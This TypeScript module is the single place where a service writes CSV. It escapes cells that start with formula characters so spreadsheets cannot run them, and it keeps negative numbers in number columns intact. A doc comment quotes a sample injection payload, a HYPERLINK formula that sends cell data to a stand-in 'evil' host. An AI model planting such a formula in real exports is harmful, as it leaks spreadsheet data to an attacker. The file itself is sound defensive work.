import { stringify, type CastingContext, type Options, type Stringifier } from 'csv-stringify'
import { stringify as stringifySync } from 'csv-stringify/sync'

/**
 * Every CSV the service writes goes through this file (the analytics GETs
 * with `Accept: text/csv`, the files of report runs, any later one): the
 * boundary check (`npm run lint:deps`) refuses an import of csv-stringify
 * anywhere else, so a new CSV cannot forget what is decided here.
 *
 * - RFC 4180 quoting by csv-stringify; lines end with `\n`; a header row.
 * - **Formula injection** (OWASP "CSV Injection", docs/platform.md "CSV",
 *   docs/analytics.md "Formula injection"): a text cell that begins with `=`, `+`, `-`, `@`, a tab or a
 *   carriage return (or the full-width `＝ ＋ － ＠` some spreadsheets read as
 *   the same) is written with a leading `'`, so that a spreadsheet shows it
 *   as text instead of running it: a contact named
 *   `=HYPERLINK("http://evil/?"&A1,"Click")` comes out as
 *   `"'=HYPERLINK(""http://evil/?""&A1,""Click"")"`. csv-stringify's
 *   `escape_formulas` does it, for every cell.
 * - **Numbers stay numbers**: a JavaScript number is never prefixed (-5 is
 *   written -5), and in a column declared `number` a decimal written as text
 *   (money in major units `-12.50`, a quantity `-2.5`) is left as it is too.
 *   Anything else in a number column is treated as text, so a mistake in a
 *   column's declaration cannot let a formula through.
 */

export interface CsvColumn {
  /** The field of a row object (or the position of the column, for array rows). */
  key: string
  /** The header cell; default the key. */
  header?: string
  /** Numbers (money in major units, quantities, counts): a plain decimal is not prefixed even when negative. */
  number?: boolean
}

/** A plain decimal as the service writes numbers as text: -12.50, 2.5, 0. */
const DECIMAL = /^-?\d+(\.\d+)?$/

function options(columns: readonly CsvColumn[]): Options {
  const byIndex = columns.map((c) => Boolean(c.number))
  const byKey = new Map(columns.map((c) => [c.key, Boolean(c.number)]))
  const isNumberColumn = (ctx: CastingContext) => (typeof ctx.column === 'number' ? byIndex[ctx.column] : ctx.column !== undefined && byKey.get(ctx.column)) === true
  return {
    header: true,
    columns: columns.map((c) => ({ key: c.key, header: c.header ?? c.key })),
    escape_formulas: true,
    cast: {
      // Only a negative decimal of a number column is let through unprefixed: the other
      // characters escape_formulas watches for cannot begin a decimal.
      string: (value, ctx) => (value.startsWith('-') && !ctx.header && isNumberColumn(ctx) && DECIMAL.test(value) ? { value, escape_formulas: false } : value),
      boolean: (value) => (value ? 'true' : 'false'),
      date: (value) => value.toISOString(),
      object: (value) => JSON.stringify(value),
    },
  }
}

/**
 * A stream that takes rows (objects with the columns' keys, or arrays in the
 * columns' order) and gives the CSV text, header first.
 */
export function csvStringifier(columns: readonly CsvColumn[]): Stringifier {
  return stringify(options(columns))
}

/** The whole CSV text of rows held in memory (a report answered at once). */
export function toCsvText(columns: readonly CsvColumn[], rows: ReadonlyArray<ReadonlyArray<unknown> | Record<string, unknown>>): string {
  return stringifySync(rows as unknown[], options(columns))
}
